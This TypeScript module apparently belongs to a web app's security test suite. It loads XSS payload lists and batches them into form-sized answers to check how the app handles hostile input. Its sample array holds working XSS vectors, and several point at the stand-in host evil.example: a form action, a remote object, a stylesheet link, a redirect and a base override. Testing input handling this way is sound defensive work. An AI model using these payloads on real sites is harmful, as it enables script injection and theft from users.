import { readFileSync } from 'node:fs';
import type { Size } from '../../check.ts';
import { corpusPath } from '../corpus-folder.ts';

const FILES = ['patt-MarioXSSVectors.txt', 'patt-xss_alert.txt', 'payloadbox-xss.txt'];

/** A few of each kind, for the quick share. */
const SAMPLE: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<a href="javascript:alert(1)">press</a>',
  '<a href="java&#x09;script:alert(1)">press</a>',
  '[press](javascript:alert(1))',
  '**<b onmouseover=alert(1)>x</b>**',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  '</script><script>alert(1)</script>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<form action=//evil.example><button>press</button>',
  '<object data="https://evil.example/x.swf">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<details open ontoggle=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  "'-alert(1)-'",
  '{{constructor.constructor("alert(1)")()}}',
  '<p style="background:url(https://evil.example/a)">x</p>',
  '<video><source onerror=alert(1)>',
  '<a href="//evil.example">press</a>',
  '<a href="https:evil.example">press</a>',
];

/** Script payloads, one each. */
export function scriptPayloads(size: Size): readonly string[] {
  if (size === 'share') return SAMPLE;
  const listed = FILES.flatMap((file) => readFileSync(corpusPath('hostile', 'xss', file), 'utf8').split(/\r?\n/));
  return [...new Set([...SAMPLE, ...listed.filter((line) => line.trim() !== '')])];
}

/** The longest answer that the API accepts: the most that one visitor can put into a field. */
const ANSWER = 2000;
/** The separator between two payloads, so that an unclosed one ends before the next. */
export const APART = '\n\n';

/**
 * Payloads that fit into one answer together; one that is too long alone is truncated there, and complete in the texts.
 */
export type Chunk = readonly string[];

/** The smallest number of chunks that hold all payloads in order. */
function chunksOf(payloads: readonly string[]): readonly Chunk[] {
  const chunks: string[][] = [];
  let room = 0;
  for (const payload of payloads) {
    const needed = payload.length + APART.length;
    if (needed > room) {
      chunks.push([]);
      room = ANSWER;
    }
    chunks.at(-1)?.push(payload);
    room -= needed;
  }
  return chunks;
}

/** The answer made from a chunk. */
export function answerOf(chunk: Chunk): string {
  return chunk.join(APART).slice(0, ANSWER);
}

/** The payloads page by page: this many chunks on each, so that every payload is in an answer and in every text. */
export function batchesOf(payloads: readonly string[], chunks: number): readonly (readonly Chunk[])[] {
  const all = chunksOf(payloads);
  return Array.from({ length: Math.ceil(all.length / chunks) }, (_batch, number) =>
    all.slice(number * chunks, (number + 1) * chunks),
  );
}
